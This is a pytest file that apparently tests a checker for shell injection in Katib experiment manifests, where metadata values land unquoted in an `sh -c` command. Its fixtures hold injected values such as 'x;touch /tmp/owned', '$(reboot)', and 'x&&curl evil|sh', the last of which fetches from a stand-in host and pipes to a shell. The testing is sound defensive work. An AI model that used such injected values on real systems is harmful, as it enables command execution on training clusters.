"""Katib runs the trial's command and args through `sh -c`, joined unquoted: every value it
substitutes is checked for shell metacharacters, the values of meta references
(${trialSpec.Annotations[x]}, ${trialSpec.Labels[x]}, Namespace, ...) as well as parameters."""

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from trainer.experiment import check as check_module
from trainer.experiment import spec as ex

TPE = Path(__file__).resolve().parents[1] / "manifests" / "experiments" / "tpe.yaml"


def experiment_with(reference: str, *, annotations=None, labels=None, namespace=None, in_env=False) -> dict:
    """tpe.yaml with one more trialParameter `note` -> `reference`, used in an argument (or an env value)."""
    doc = yaml.safe_load(TPE.read_text(encoding="utf-8"))
    template = doc["spec"]["trialTemplate"]
    template["trialParameters"].append({"name": "note", "reference": reference})
    metadata = template["trialSpec"].setdefault("metadata", {})
    metadata.setdefault("annotations", {}).update(annotations or {})
    metadata.setdefault("labels", {}).update(labels or {})
    if namespace:
        doc["metadata"]["namespace"] = namespace
    container = template["trialSpec"]["spec"]["template"]["spec"]["containers"][0]
    if in_env:
        container.setdefault("env", []).append({"name": "NOTE", "value": "${trialParameters.note}"})
    else:
        ex.edit_trainer_args(container, lambda args: [*args, "--dialogue_column=${trialParameters.note}"])
    return doc


def problems(doc: dict) -> list[str]:
    experiment = ex.parse_documents(yaml.safe_dump(doc, sort_keys=False), "e.yaml")[0]
    return [f"{f.field}: {f.message}" for f in check_module.check_experiment(experiment).problems]


FIELD = "spec.trialTemplate.trialParameters[note].reference"


@pytest.mark.parametrize("reference, where, value, character", [
    ("${trialSpec.Annotations[note]}", {"annotations": {"note": "x;touch /tmp/owned"}}, "x;touch /tmp/owned",
     "the shell character ';'"),
    ("${trialSpec.Labels[team]}", {"labels": {"team": "$(reboot)"}}, "$(reboot)", "the shell character '$'"),
    ("${trialSpec.Annotations[text]}", {"annotations": {"text": "dialogue text"}}, "dialogue text", "a space"),
    ("${trialSpec.Namespace}", {"namespace": "team`id`"}, "team`id`", "the shell character '`'"),
])
def test_a_meta_reference_resolving_to_shell_syntax_is_a_problem(reference, where, value, character):
    found = [p for p in problems(experiment_with(reference, **where)) if p.startswith(FIELD)]
    assert found == [f"{FIELD}: {reference} resolves to {value!r}, which contains {character}; Katib puts it "
                     "unquoted into the trial's sh -c command line"]


def test_plain_meta_values_and_values_no_shell_reads_pass():
    assert problems(experiment_with("${trialSpec.Annotations[note]}", annotations={"note": "dialogue"})) == []
    assert problems(experiment_with("${trialSpec.Labels[team]}", labels={"team": "nlp-ko"})) == []
    # An env value reaches the process without a shell.
    assert problems(experiment_with("${trialSpec.Annotations[note]}", annotations={"note": "a; b"}, in_env=True)) == []


def test_trainer_check_rejects_it_through_the_cli(tmp_path):
    path = tmp_path / "e.yaml"
    path.write_text(yaml.safe_dump(experiment_with("${trialSpec.Annotations[note]}",
                                                   annotations={"note": "x&&curl evil|sh"}), sort_keys=False),
                    encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "trainer.cli", "check", str(path)], capture_output=True,
                            text=True, timeout=120)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"{path}: kobart-tpe: {FIELD}: ${{trialSpec.Annotations[note]}} resolves to 'x&&curl evil|sh'" \
        in result.stdout
